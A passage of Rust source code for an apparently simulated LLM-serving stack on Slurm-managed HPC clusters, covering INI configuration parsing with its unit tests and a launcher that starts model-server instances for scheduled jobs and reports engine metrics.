        if let Some(stack) = ini.get("stack") {
            if let Some(v) = stack.get("artifacts_dir") {
                config.artifacts_dir = v.clone();
            }
            if let Some(v) = stack.get("gpu_nodes") {
                config.gpu_nodes = v.parse()?;
            }
            if let Some(v) = stack.get("keepalive_ms") {
                config.keepalive = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = stack.get("ssh_exec_latency_ms") {
                config.ssh_exec_latency = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = stack.get("model_load_delay_ms") {
                config.model_load_delay = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = stack.get("service_walltime_s") {
                config.service_walltime = Duration::from_secs(v.parse()?);
            }
            if let Some(v) = stack.get("external_models") {
                config.external_models = v == "true";
            }
            if let Some(v) = stack.get("seed") {
                config.seed = v.parse()?;
            }
        }
        if let Some(s) = ini.get("streaming") {
            if let Some(v) = s.get("chunk_buffer") {
                config.streaming.chunk_buffer = v.parse()?;
            }
            if let Some(v) = s.get("heartbeat_ms") {
                config.streaming.heartbeat = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = s.get("stall_timeout_ms") {
                config.streaming.stall_timeout = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = s.get("stall_buffer") {
                config.streaming.stall_buffer = v.parse()?;
            }
            if let Some(v) = s.get("stall_policy") {
                config.streaming.stall_policy = StallPolicy::parse(v)
                    .ok_or_else(|| anyhow!("bad stall_policy {v} (disconnect|drop)"))?;
            }
            if let Some(v) = s.get("cancellation") {
                config.streaming.cancellation = v == "true";
            }
            if let Some(v) = s.get("relay") {
                config.streaming.relay = v == "true";
            }
            if let Some(v) = s.get("coalesce_ms") {
                config.streaming.coalesce = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = s.get("coalesce_max_tokens") {
                config.streaming.coalesce_max_tokens = v.parse()?;
            }
        }
        if let Some(e) = ini.get("engine") {
            if let Some(v) = e.get("prefix_cache") {
                config.engine.prefix_cache = v == "true";
            }
            if let Some(v) = e.get("prefill_chunk") {
                config.engine.prefill_chunk = v.parse()?;
            }
            if let Some(v) = e.get("growth_watermark_blocks") {
                config.engine.growth_watermark = v.parse()?;
            }
            if let Some(v) = e.get("kv_blocks") {
                config.engine.kv_blocks = v.parse()?;
            }
            if let Some(v) = e.get("prefill_lanes") {
                config.engine.prefill_lanes = v.parse()?;
            }
        }
        if let Some(s) = ini.get("speculative") {
            let spec = &mut config.engine.speculative;
            if let Some(v) = s.get("enabled") {
                spec.enabled = v == "true";
            }
            if let Some(v) = s.get("draft_k") {
                spec.draft_k = v.parse()?;
            }
            if let Some(v) = s.get("acceptance_rate") {
                spec.acceptance_rate = v.parse()?;
                if !(0.0..=1.0).contains(&spec.acceptance_rate) {
                    bail!("acceptance_rate must be within [0, 1]");
                }
            }
        }
        if let Some(f) = ini.get("fairness") {
            let fair = &mut config.engine.fairness;
            if let Some(v) = f.get("enabled") {
                fair.enabled = v == "true";
            }
            if let Some(v) = f.get("quantum_tokens") {
                fair.quantum = v.parse()?;
            }
            if let Some(v) = f.get("interactive_weight") {
                fair.interactive_weight = v.parse()?;
            }
            if let Some(v) = f.get("batch_weight") {
                fair.batch_weight = v.parse()?;
            }
            if let Some(v) = f.get("queue_cap") {
                fair.queue_cap = v.parse()?;
            }
            if let Some(v) = f.get("interactive_wait_ms") {
                fair.interactive_wait = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = f.get("batch_wait_ms") {
                fair.batch_wait = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = f.get("tenant_idle_ms") {
                fair.tenant_idle = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = f.get("batch_demand_weight") {
                fair.batch_demand_weight = v.parse()?;
                if !(0.0..=1.0).contains(&fair.batch_demand_weight) {
                    bail!("batch_demand_weight must be within [0, 1]");
                }
            }
        }
        if let Some(t) = ini.get("tracing") {
            if let Some(v) = t.get("enabled") {
                config.tracing.enabled = v == "true";
            }
        }
        if let Some(h) = ini.get("http") {
            if let Some(v) = h.get("pool") {
                config.http.enabled = v == "true";
            }
            if let Some(v) = h.get("max_per_peer") {
                config.http.max_per_peer = v.parse()?;
            }
            if let Some(v) = h.get("max_total") {
                config.http.max_total = v.parse()?;
            }
            if let Some(v) = h.get("idle_ttl_ms") {
                config.http.idle_ttl = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = h.get("checkout_timeout_ms") {
                config.http.checkout_timeout = Duration::from_millis(v.parse()?);
            }
        }
        if let Some(e) = ini.get("elastic") {
            if let Some(v) = e.get("enabled") {
                config.elastic.enabled = v == "true";
            }
            if let Some(v) = e.get("grace_ms") {
                config.elastic.grace = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = e.get("gap_walltime_ms") {
                config.elastic.gap_walltime = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = e.get("standby") {
                config.elastic.standby = v.parse()?;
            }
        }
        if let Some(fed) = ini.get("federation") {
            if let Some(v) = fed.get("probe_interval_ms") {
                config.federation.probe_interval = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = fed.get("breaker_failures") {
                config.federation.breaker_failures = v.parse()?;
            }
            if let Some(v) = fed.get("breaker_cooldown_ms") {
                config.federation.breaker_cooldown = Duration::from_millis(v.parse()?);
            }
            if let Some(v) = fed.get("max_attempts") {
                config.federation.max_attempts = v.parse()?;
            }
            if let Some(v) = fed.get("cache_affinity_weight") {
                config.federation.cache_affinity_weight = v.parse()?;
                if !(0.0..=1.0).contains(&config.federation.cache_affinity_weight) {
                    bail!("cache_affinity_weight must be within [0, 1]");
                }
            }
        }
        let mut sections: Vec<_> = ini.iter().collect();
        sections.sort_by_key(|(k, _)| k.as_str().to_string());
        for (section, kv) in sections {
            if let Some(name) = section.strip_prefix("cluster.") {
                let mut cluster = ClusterSpec::named(name, config.gpu_nodes);
                if let Some(v) = kv.get("gpu_nodes") {
                    cluster.gpu_nodes = v.parse()?;
                }
                if let Some(v) = kv.get("ssh_exec_latency_ms") {
                    cluster.ssh_exec_latency = Duration::from_millis(v.parse()?);
                }
                if let Some(v) = kv.get("model_load_delay_ms") {
                    cluster.model_load_delay = Duration::from_millis(v.parse()?);
                }
                if let Some(v) = kv.get("services") {
                    cluster.services = v
                        .split(',')
                        .map(|s| s.trim().to_string())
                        .filter(|s| !s.is_empty())
                        .collect();
                }
                config.clusters.push(cluster);
            }
            if let Some(name) = section.strip_prefix("model.") {
                // Catalog schema: a [model.NAME] section is a service spec
                // (same scheduling keys, `model` defaulting to the section
                // name) plus catalog metadata.
                config.services.push(service_spec(name, kv, Some(name))?);
                let mut spec = ModelSpec::derived(name);
                if let Some(v) = kv.get("context_window") {
                    spec.context_window = v.parse()?;
                }
                if let Some(v) = kv.get("owned_by") {
                    spec.owned_by = v.clone();
                }
                if let Some(v) = kv.get("clusters") {
                    spec.clusters = v
                        .split(',')
                        .map(|s| s.trim().to_string())
                        .filter(|s| !s.is_empty())
                        .collect();
                }
                config.models.push(spec);
            }
            if let Some(name) = section.strip_prefix("service.") {
                config.services.push(service_spec(name, kv, None)?);
            }
        }
        if config.services.is_empty() {
            bail!("no [service.*] or [model.*] sections");
        }
        for (i, svc) in config.services.iter().enumerate() {
            if config.services[..i].iter().any(|s| s.name == svc.name) {
                bail!("duplicate service/model name {}", svc.name);
            }
        }
        for cluster in &config.clusters {
            for svc in &cluster.services {
                if !config.services.iter().any(|s| &s.name == svc) {
                    bail!("cluster {}: unknown service {svc}", cluster.name);
                }
            }
        }
        for model in &config.models {
            for cluster in &model.clusters {
                if !config.clusters.iter().any(|c| &c.name == cluster) {
                    bail!("model {}: unknown cluster {cluster}", model.name);
                }
            }
        }
        if config.models.is_empty() {
            // Legacy flat namespace: still supported, but the catalog only
            // carries derived entries. Warn once per process, not per parse.
            static LEGACY_WARN: std::sync::Once = std::sync::Once::new();
            LEGACY_WARN.call_once(|| {
                log::warn!(
                    "config uses only legacy [service.*] sections; consider \
                     [model.*] catalog sections (context_window, owned_by, \
                     clusters) — see examples/chat-ai.ini"
                );
            });
        }
        Ok(config)
    }

    /// Is `service` placed on `cluster` by the catalog? Services without a
    /// `[model.*]` entry (or with an empty `clusters` list) are placed on
    /// every cluster that lists them — the legacy behavior.
    pub fn model_placed(&self, service: &str, cluster: &str) -> bool {
        match self.models.iter().find(|m| m.name == service) {
            Some(m) if !m.clusters.is_empty() => m.clusters.iter().any(|c| c == cluster),
            _ => true,
        }
    }
}

/// Build a [`ServiceSpec`] from a `[service.*]` or `[model.*]` section.
/// `default_model` is the section name for `[model.*]` sections; legacy
/// `[service.*]` sections must name their backend explicitly.
fn service_spec(
    name: &str,
    kv: &HashMap<String, String>,
    default_model: Option<&str>,
) -> Result<ServiceSpec> {
    let model = match (kv.get("model"), default_model) {
        (Some(v), _) => v.clone(),
        (None, Some(d)) => d.to_string(),
        (None, None) => bail!("service {name}: missing model"),
    };
    Ok(ServiceSpec {
        name: name.to_string(),
        model,
        gpus: kv.get("gpus").map(|v| v.parse()).transpose()?.unwrap_or(1),
        min_instances: kv
            .get("min_instances")
            .map(|v| v.parse())
            .transpose()?
            .unwrap_or(1),
        max_instances: kv
            .get("max_instances")
            .map(|v| v.parse())
            .transpose()?
            .unwrap_or(2),
        target_concurrency: kv
            .get("target_concurrency")
            .map(|v| v.parse())
            .transpose()?
            .unwrap_or(8.0),
    })
}

/// Parse `[section]` / `key = value` INI text. `#` and `;` start comments.
pub fn parse_ini(text: &str) -> Result<HashMap<String, HashMap<String, String>>> {
    let mut out: HashMap<String, HashMap<String, String>> = HashMap::new();
    let mut section = String::from("");
    for (lineno, raw) in text.lines().enumerate() {
        let line = raw.split(['#', ';']).next().unwrap_or("").trim();
        if line.is_empty() {
            continue;
        }
        if let Some(name) = line.strip_prefix('[').and_then(|l| l.strip_suffix(']')) {
            section = name.trim().to_string();
            out.entry(section.clone()).or_default();
        } else if let Some((k, v)) = line.split_once('=') {
            out.entry(section.clone())
                .or_default()
                .insert(k.trim().to_string(), v.trim().to_string());
        } else {
            bail!("line {}: expected 'key = value' or '[section]'", lineno + 1);
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = r#"
# Chat AI deployment
[stack]
gpu_nodes = 4
keepalive_ms = 250
ssh_exec_latency_ms = 10   ; paper's WAN hop
external_models = true

[service.llama3-70b]
model = llama3-70b
gpus = 2
min_instances = 1
max_instances = 3
target_concurrency = 4.5

[service.tiny-chat]
model = tiny
"#;

    #[test]
    fn parses_sample() {
        let cfg = StackConfig::from_ini(SAMPLE).unwrap();
        assert_eq!(cfg.gpu_nodes, 4);
        assert_eq!(cfg.keepalive, Duration::from_millis(250));
        assert_eq!(cfg.ssh_exec_latency, Duration::from_millis(10));
        assert!(cfg.external_models);
        assert_eq!(cfg.services.len(), 2);
        let llama = cfg.services.iter().find(|s| s.name == "llama3-70b").unwrap();
        assert_eq!(llama.gpus, 2);
        assert_eq!(llama.max_instances, 3);
        assert_eq!(llama.target_concurrency, 4.5);
        let tiny = cfg.services.iter().find(|s| s.name == "tiny-chat").unwrap();
        assert_eq!(tiny.model, "tiny");
        assert_eq!(tiny.gpus, 1, "defaults applied");
    }

    #[test]
    fn rejects_bad_ini() {
        assert!(StackConfig::from_ini("junk line without equals").is_err());
        assert!(StackConfig::from_ini("[stack]\ngpu_nodes = four").is_err());
        assert!(StackConfig::from_ini("[stack]\n").is_err(), "no services");
        assert!(
            StackConfig::from_ini("[service.x]\ngpus = 1").is_err(),
            "missing model"
        );
    }

    #[test]
    fn scheduler_config_mapping() {
        let spec = ServiceSpec {
            name: "m".into(),
            model: "tiny".into(),
            gpus: 2,
            min_instances: 1,
            max_instances: 4,
            target_concurrency: 8.0,
        };
        let sc = spec.to_scheduler_config(600_000);
        assert_eq!(sc.time_limit, 600_000);
        assert_eq!(sc.renew_margin, 60_000);
        assert_eq!(sc.gpus, 2);
    }

    #[test]
    fn presets_are_sane() {
        assert!(!StackConfig::demo().services.is_empty());
        let prod = StackConfig::production_like();
        assert_eq!(prod.services.len(), 4);
        assert!(prod.external_models);
        let fed = StackConfig::federated_demo();
        assert_eq!(fed.clusters.len(), 2);
        assert!(fed.clusters[0].hosts("anything"), "empty list hosts all");
    }

    const FEDERATED_SAMPLE: &str = r#"
[stack]
gpu_nodes = 4

[federation]
probe_interval_ms = 200
breaker_failures = 5
breaker_cooldown_ms = 2000
max_attempts = 2

[cluster.emmy]
gpu_nodes = 8
ssh_exec_latency_ms = 12
services = llama3-70b

[cluster.grete]
model_load_delay_ms = 50

[service.llama3-70b]
model = llama3-70b

[service.tiny-chat]
model = tiny
"#;

    #[test]
    fn parses_clusters_and_federation() {
        let cfg = StackConfig::from_ini(FEDERATED_SAMPLE).unwrap();
        assert_eq!(cfg.clusters.len(), 2);
        let emmy = cfg.clusters.iter().find(|c| c.name == "emmy").unwrap();
        assert_eq!(emmy.gpu_nodes, 8);
        assert_eq!(emmy.ssh_exec_latency, Duration::from_millis(12));
        assert_eq!(emmy.services, vec!["llama3-70b".to_string()]);
        assert!(emmy.hosts("llama3-70b"));
        assert!(!emmy.hosts("tiny-chat"));
        let grete = cfg.clusters.iter().find(|c| c.name == "grete").unwrap();
        assert_eq!(grete.gpu_nodes, 4, "inherits stack gpu_nodes");
        assert_eq!(grete.model_load_delay, Duration::from_millis(50));
        assert!(grete.hosts("tiny-chat"), "no list = hosts everything");
        assert_eq!(cfg.federation.probe_interval, Duration::from_millis(200));
        assert_eq!(cfg.federation.breaker_failures, 5);
        assert_eq!(cfg.federation.breaker_cooldown, Duration::from_millis(2000));
        assert_eq!(cfg.federation.max_attempts, 2);
    }

    #[test]
    fn rejects_cluster_with_unknown_service() {
        let bad = "[cluster.x]\nservices = ghost\n[service.real]\nmodel = tiny\n";
        assert!(StackConfig::from_ini(bad).is_err());
    }

    const STREAMING_SAMPLE: &str = r#"
[streaming]
chunk_buffer = 16
heartbeat_ms = 2500
stall_timeout_ms = 1500
stall_buffer = 32
stall_policy = drop
cancellation = false
relay = false
coalesce_ms = 6
coalesce_max_tokens = 12

[service.tiny-chat]
model = tiny
"#;

    #[test]
    fn parses_streaming_section() {
        let cfg = StackConfig::from_ini(STREAMING_SAMPLE).unwrap();
        assert_eq!(cfg.streaming.chunk_buffer, 16);
        assert_eq!(cfg.streaming.heartbeat, Duration::from_millis(2500));
        assert_eq!(cfg.streaming.stall_timeout, Duration::from_millis(1500));
        assert_eq!(cfg.streaming.stall_buffer, 32);
        assert_eq!(cfg.streaming.stall_policy, StallPolicy::Drop);
        assert!(!cfg.streaming.cancellation);
        assert!(!cfg.streaming.relay);
        assert_eq!(cfg.streaming.coalesce, Duration::from_millis(6));
        assert_eq!(cfg.streaming.coalesce_max_tokens, 12);
        // Defaults when the section is absent.
        let plain = StackConfig::from_ini("[service.x]\nmodel = tiny\n").unwrap();
        assert_eq!(plain.streaming.stall_policy, StallPolicy::Disconnect);
        assert!(plain.streaming.cancellation);
        assert!(plain.streaming.relay, "relay on by default");
        assert!(plain.streaming.coalesce.is_zero(), "coalescing opt-in");
    }

    #[test]
    fn rejects_bad_stall_policy() {
        let bad = "[streaming]\nstall_policy = explode\n[service.x]\nmodel = tiny\n";
        assert!(StackConfig::from_ini(bad).is_err());
    }

    const ENGINE_SAMPLE: &str = r#"
[engine]
prefix_cache = false
prefill_chunk = 128
growth_watermark_blocks = 4
kv_blocks = 2048
prefill_lanes = 2

[speculative]
enabled = true
draft_k = 6
acceptance_rate = 0.85

[service.tiny-chat]
model = tiny
"#;

    #[test]
    fn parses_engine_section() {
        let cfg = StackConfig::from_ini(ENGINE_SAMPLE).unwrap();
        assert!(!cfg.engine.prefix_cache);
        assert_eq!(cfg.engine.prefill_chunk, 128);
        assert_eq!(cfg.engine.growth_watermark, 4);
        assert_eq!(cfg.engine.kv_blocks, 2048);
        assert_eq!(cfg.engine.prefill_lanes, 2);
        assert!(cfg.engine.speculative.enabled);
        assert_eq!(cfg.engine.speculative.draft_k, 6);
        assert_eq!(cfg.engine.speculative.acceptance_rate, 0.85);
        // Defaults when the section is absent.
        let plain = StackConfig::from_ini("[service.x]\nmodel = tiny\n").unwrap();
        assert!(plain.engine.prefix_cache);
        assert_eq!(plain.engine.prefill_chunk, 512);
        assert_eq!(plain.engine.growth_watermark, 2);
        assert_eq!(plain.engine.kv_blocks, 0, "0 = derive from backend");
        assert_eq!(plain.engine.prefill_lanes, 0, "0 = inline prefill");
        assert!(!plain.engine.speculative.enabled, "speculation opt-in");
        assert_eq!(plain.engine.speculative.draft_k, 4);
        assert_eq!(plain.engine.speculative.acceptance_rate, 0.7);
    }

    #[test]
    fn rejects_bad_engine_values() {
        let bad = "[engine]\nprefill_chunk = many\n[service.x]\nmodel = tiny\n";
        assert!(StackConfig::from_ini(bad).is_err());
        let bad = "[engine]\nprefill_lanes = some\n[service.x]\nmodel = tiny\n";
        assert!(StackConfig::from_ini(bad).is_err());
        let bad = "[speculative]\nacceptance_rate = 1.5\n[service.x]\nmodel = tiny\n";
        assert!(StackConfig::from_ini(bad).is_err(), "acceptance out of range");
        let bad = "[speculative]\ndraft_k = many\n[service.x]\nmodel = tiny\n";
        assert!(StackConfig::from_ini(bad).is_err());
    }

    const FAIRNESS_SAMPLE: &str = r#"
[fairness]
enabled = true
quantum_tokens = 128
interactive_weight = 8
batch_weight = 2
queue_cap = 64
interactive_wait_ms = 3000
batch_wait_ms = 30000
tenant_idle_ms = 60000
batch_demand_weight = 0.5

[service.tiny-chat]
model = tiny
"#;

    #[test]
    fn parses_fairness_section() {
        let cfg = StackConfig::from_ini(FAIRNESS_SAMPLE).unwrap();
        let f = &cfg.engine.fairness;
        assert!(f.enabled);
        assert_eq!(f.quantum, 128);
        assert_eq!(f.interactive_weight, 8);
        assert_eq!(f.batch_weight, 2);
        assert_eq!(f.queue_cap, 64);
        assert_eq!(f.interactive_wait, Duration::from_millis(3000));
        assert_eq!(f.batch_wait, Duration::from_millis(30000));
        assert_eq!(f.tenant_idle, Duration::from_millis(60000));
        assert_eq!(f.batch_demand_weight, 0.5);
        // Defaults when the section is absent.
        let plain = StackConfig::from_ini("[service.x]\nmodel = tiny\n").unwrap();
        assert!(plain.engine.fairness.enabled, "fairness on by default");
        assert_eq!(plain.engine.fairness.batch_demand_weight, 1.0);
    }

    #[test]
    fn parses_elastic_section() {
        let cfg = StackConfig::from_ini(
            "[elastic]\nenabled = true\ngrace_ms = 15000\n\
             gap_walltime_ms = 300000\nstandby = 2\n\
             [service.x]\nmodel = tiny\n",
        )
        .unwrap();
        assert!(cfg.elastic.enabled);
        assert_eq!(cfg.elastic.grace, Duration::from_millis(15_000));
        assert_eq!(cfg.elastic.gap_walltime, Duration::from_millis(300_000));
        assert_eq!(cfg.elastic.standby, 2);
        // Defaults when the section is absent: elastic mode off, sane
        // budgets once an operator flips it on.
        let plain = StackConfig::from_ini("[service.x]\nmodel = tiny\n").unwrap();
        assert!(!plain.elastic.enabled, "elastic opt-in");
        assert_eq!(plain.elastic.grace, Duration::from_secs(30));
        assert_eq!(plain.elastic.gap_walltime, Duration::from_secs(600));
        assert_eq!(plain.elastic.standby, 1);
        assert!(
            StackConfig::from_ini("[elastic]\nstandby = many\n[service.x]\nmodel = tiny\n")
                .is_err()
        );
    }

    #[test]
    fn parses_tracing_section() {
        let cfg =
            StackConfig::from_ini("[tracing]\nenabled = false\n[service.x]\nmodel = tiny\n")
                .unwrap();
        assert!(!cfg.tracing.enabled);
        // Defaults when the section is absent.
        let plain = StackConfig::from_ini("[service.x]\nmodel = tiny\n").unwrap();
        assert!(plain.tracing.enabled, "tracing on by default");
    }

    #[test]
    fn parses_http_section() {
        let cfg = StackConfig::from_ini(
            "[http]\npool = false\nmax_per_peer = 16\nmax_total = 64\n\
             idle_ttl_ms = 5000\ncheckout_timeout_ms = 250\n\
             [service.x]\nmodel = tiny\n",
        )
        .unwrap();
        assert!(!cfg.http.enabled);
        assert_eq!(cfg.http.max_per_peer, 16);
        assert_eq!(cfg.http.max_total, 64);
        assert_eq!(cfg.http.idle_ttl, Duration::from_millis(5_000));
        assert_eq!(cfg.http.checkout_timeout, Duration::from_millis(250));
        // Defaults when the section is absent: pooling on with the
        // library defaults.
        let plain = StackConfig::from_ini("[service.x]\nmodel = tiny\n").unwrap();
        assert!(plain.http.enabled, "keep-alive pooling on by default");
        assert_eq!(plain.http.max_per_peer, 128);
        assert_eq!(plain.http.max_total, 1024);
        assert!(
            StackConfig::from_ini("[http]\nmax_total = lots\n[service.x]\nmodel = tiny\n")
                .is_err()
        );
    }

    const CATALOG_SAMPLE: &str = r#"
[federation]
cache_affinity_weight = 0.8

[cluster.emmy]
[cluster.grete]

[model.llama3-70b]
gpus = 2
context_window = 8192
owned_by = meta
clusters = emmy

[model.tiny-chat]
model = tiny

[service.legacy-route]
model = intel-neural-7b
"#;

    #[test]
    fn parses_model_catalog_sections() {
        let cfg = StackConfig::from_ini(CATALOG_SAMPLE).unwrap();
        assert_eq!(cfg.federation.cache_affinity_weight, 0.8);
        assert_eq!(cfg.models.len(), 2);
        let llama = cfg.models.iter().find(|m| m.name == "llama3-70b").unwrap();
        assert_eq!(llama.context_window, 8192);
        assert_eq!(llama.owned_by, "meta");
        assert_eq!(llama.clusters, vec!["emmy".to_string()]);
        let tiny = cfg.models.iter().find(|m| m.name == "tiny-chat").unwrap();
        assert_eq!(tiny.context_window, 0, "0 = derive from backend profile");
        assert_eq!(tiny.owned_by, "chat-ai");
        // [model.*] sections are full service specs too.
        assert_eq!(cfg.services.len(), 3);
        let svc = cfg.services.iter().find(|s| s.name == "llama3-70b").unwrap();
        assert_eq!(svc.model, "llama3-70b", "model defaults to section name");
        assert_eq!(svc.gpus, 2);
        let tiny_svc = cfg.services.iter().find(|s| s.name == "tiny-chat").unwrap();
        assert_eq!(tiny_svc.model, "tiny", "explicit backend override");
        // Placement: pinned models only land on their clusters.
        assert!(cfg.model_placed("llama3-70b", "emmy"));
        assert!(!cfg.model_placed("llama3-70b", "grete"));
        assert!(cfg.model_placed("tiny-chat", "grete"), "no pin = everywhere");
        assert!(cfg.model_placed("legacy-route", "emmy"), "legacy = everywhere");
    }

    #[test]
    fn rejects_bad_catalog_configs() {
        let dup = "[model.x]\nmodel = tiny\n[service.x]\nmodel = tiny\n";
        assert!(StackConfig::from_ini(dup).is_err(), "duplicate name");
        let ghost = "[model.x]\nmodel = tiny\nclusters = nowhere\n";
        assert!(StackConfig::from_ini(ghost).is_err(), "unknown cluster");
        let weight = "[federation]\ncache_affinity_weight = 1.5\n[service.x]\nmodel = tiny\n";
        assert!(StackConfig::from_ini(weight).is_err(), "weight out of range");
        // Defaults when unset.
        let plain = StackConfig::from_ini("[service.x]\nmodel = tiny\n").unwrap();
        assert_eq!(plain.federation.cache_affinity_weight, 0.5);
        assert!(plain.models.is_empty());
    }

    #[test]
    fn rejects_bad_fairness_values() {
        let bad = "[fairness]\nqueue_cap = lots\n[service.x]\nmodel = tiny\n";
        assert!(StackConfig::from_ini(bad).is_err());
        let bad = "[fairness]\nbatch_demand_weight = 1.5\n[service.x]\nmodel = tiny\n";
        assert!(StackConfig::from_ini(bad).is_err());
    }
}
