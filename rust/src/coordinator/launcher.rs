//! The coordinator's [`InstanceLauncher`]: what actually happens inside a
//! Slurm service job. When the scheduler's job starts, this spawns an
//! in-process LLM server (the "GPU node" process), optionally after a
//! simulated model-load delay; readiness probes succeed once the server
//! is serving.
//!
//! Backend resolution: artifact models ("tiny", "small-chat") compile and
//! run through PJRT; profile names ("llama3-70b", ...) get the calibrated
//! analytic backend (DESIGN.md §Substitutions).

use std::collections::HashMap;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::llm::{EngineTuning, LlmServer, PerfProfile, SimBackend, XlaBackend};
use crate::runtime::ModelExecutor;
use crate::scheduler::{InstanceLauncher, ServiceConfig};
use crate::slurm::JobId;
use crate::util::streaming::StreamingConfig;

enum InstanceState {
    Loading,
    Ready(LlmServer),
    Failed(String),
}

type Instances = Arc<Mutex<HashMap<JobId, InstanceState>>>;

pub struct LlmInstanceLauncher {
    artifacts_dir: PathBuf,
    load_delay: Duration,
    streaming: StreamingConfig,
    tuning: EngineTuning,
    instances: Instances,
}

impl LlmInstanceLauncher {
    pub fn new(
        artifacts_dir: &str,
        load_delay: Duration,
        streaming: StreamingConfig,
        tuning: EngineTuning,
    ) -> Arc<LlmInstanceLauncher> {
        Arc::new(LlmInstanceLauncher {
            artifacts_dir: PathBuf::from(artifacts_dir),
            load_delay,
            streaming,
            tuning,
            instances: Arc::new(Mutex::new(HashMap::new())),
        })
    }

    pub fn stop_all(&self) {
        let mut instances = self.instances.lock().unwrap();
        for (_, state) in instances.drain() {
            if let InstanceState::Ready(server) = state {
                server.stop();
            }
        }
    }

    /// Ready instance count (tests).
    pub fn ready_count(&self) -> usize {
        self.instances
            .lock()
            .unwrap()
            .values()
            .filter(|s| matches!(s, InstanceState::Ready(_)))
            .count()
    }

    /// Failure message for a job, if its load failed (tests).
    pub fn failure(&self, job: JobId) -> Option<String> {
        match self.instances.lock().unwrap().get(&job) {
            Some(InstanceState::Failed(e)) => Some(e.clone()),
            _ => None,
        }
    }

    /// Cluster-level engine metrics: speculative-decoding counters and
    /// prefill-lane depth aggregated over the ready instances, in
    /// Prometheus text form for the coordinator registry.
    pub fn engine_metrics_text(&self) -> String {
        let mut proposed = 0u64;
        let mut accepted = 0u64;
        let mut per_step = 0u64;
        let mut lane_depth: Vec<u64> = Vec::new();
        for state in self.instances.lock().unwrap().values() {
            let InstanceState::Ready(server) = state else {
                continue;
            };
            let s = &server.engine.stats;
            proposed += s
                .spec_proposed_tokens
                .load(std::sync::atomic::Ordering::Relaxed);
            accepted += s
                .spec_accepted_tokens
                .load(std::sync::atomic::Ordering::Relaxed);
            per_step = per_step.max(
                s.spec_tokens_per_step_milli
                    .load(std::sync::atomic::Ordering::Relaxed),
            );
            for (lane, depth) in s.lane_depth_snapshot().into_iter().enumerate() {
                if lane_depth.len() <= lane {
                    lane_depth.resize(lane + 1, 0);
                }
                lane_depth[lane] += depth;
            }
        }
        let mut out = format!(
            "spec_proposed_tokens_total {proposed}\n\
             spec_accepted_tokens_total {accepted}\n\
             spec_tokens_per_step_milli {per_step}\n"
        );
        for (lane, depth) in lane_depth.iter().enumerate() {
            out.push_str(&format!(
                "prefill_lane_depth{{lane=\"{lane}\"}} {depth}\n"
            ));
        }
        out
    }
}

impl InstanceLauncher for LlmInstanceLauncher {
    fn launch(&self, service: &ServiceConfig, job: JobId, node: &str, port: u16) {
        log::info!(
            target: "launcher",
            "job {job}: starting {} ({}) on {node}:{port}",
            service.name, service.model
        );
        self.instances
            .lock()
            .unwrap()
            .insert(job, InstanceState::Loading);

        let model = service.model.clone();
        let name = service.name.clone();
        let artifacts = self.artifacts_dir.clone();
        let load_delay = self.load_delay;
        let streaming = self.streaming.clone();
        let tuning = self.tuning.clone();
        let instances = self.instances.clone();
        // The "job script" body: load the model, then open for business.
        std::thread::Builder::new()
            .name(format!("svc-job-{job}"))
            .spawn(move || {
                if !load_delay.is_zero() {
                    std::thread::sleep(load_delay);
                }
                let result = build_server(&name, &model, &artifacts, streaming, tuning);
                let mut map = instances.lock().unwrap();
                match result {
                    Ok(server) => {
                        // The job may have been cancelled while loading.
                        if map.contains_key(&job) {
                            map.insert(job, InstanceState::Ready(server));
                        } else {
                            drop(map);
                            server.stop();
                        }
                    }
                    Err(e) => {
                        log::error!(target: "launcher", "job {job}: load failed: {e}");
                        map.insert(job, InstanceState::Failed(e.to_string()));
                    }
                }
            })
            .expect("spawn service job");
    }

    fn probe(&self, job: JobId) -> Option<SocketAddr> {
        match self.instances.lock().unwrap().get(&job) {
            Some(InstanceState::Ready(server)) => Some(server.addr()),
            _ => None,
        }
    }

    fn healthy(&self, job: JobId) -> bool {
        matches!(
            self.instances.lock().unwrap().get(&job),
            Some(InstanceState::Ready(_))
        )
    }

    fn drain(&self, job: JobId) {
        // Preemption notice / walltime warning: the server refuses new
        // work (503 on /v1/*) while in-flight streams run to completion
        // within the grace budget. The routing table has already stopped
        // sending traffic here; this closes the race with requests that
        // were picked before the drain mark landed.
        if let Some(InstanceState::Ready(server)) = self.instances.lock().unwrap().get(&job) {
            log::info!(target: "launcher", "job {job}: draining, no new admissions");
            server.set_ready(false);
        }
    }

    fn stop(&self, job: JobId) {
        if let Some(state) = self.instances.lock().unwrap().remove(&job) {
            if let InstanceState::Ready(server) = state {
                server.stop();
            }
        }
    }
}

fn build_server(
    name: &str,
    model: &str,
    artifacts: &std::path::Path,
    streaming: StreamingConfig,
    tuning: EngineTuning,
) -> anyhow::Result<LlmServer> {
    match model {
        "tiny" | "small-chat" => {
            let executor = ModelExecutor::global(artifacts);
            let backend = XlaBackend::load(executor, model)?;
            LlmServer::start_tuned(name, Arc::new(backend), 8, streaming, tuning)
                .map_err(Into::into)
        }
        profile => {
            let mut profile = PerfProfile::by_name(profile)
                .ok_or_else(|| anyhow::anyhow!("unknown model/profile {profile}"))?;
            // The analytic drafter agrees with the target at the configured
            // rate — the knob that makes `[speculative]` ablations honest.
            profile.spec_accept = tuning.speculative.acceptance_rate;
            LlmServer::start_tuned(name, Arc::new(SimBackend::new(profile)), 8, streaming, tuning)
                .map_err(Into::into)
        }
    }
}
