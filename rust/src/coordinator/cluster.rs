//! One HPC cluster's full runtime: Slurm controller, routing table, demand
//! tracker, scheduler, cloud interface, sshd — plus the web-server-side
//! HPC proxy holding this cluster's dedicated SSH channel.
//!
//! [`crate::coordinator::Stack`] launches exactly one of these (the
//! paper's shape); [`crate::coordinator::FederatedStack`] launches N and
//! puts the federation router above them.

use std::sync::{Arc, Mutex};

use anyhow::{Context, Result};

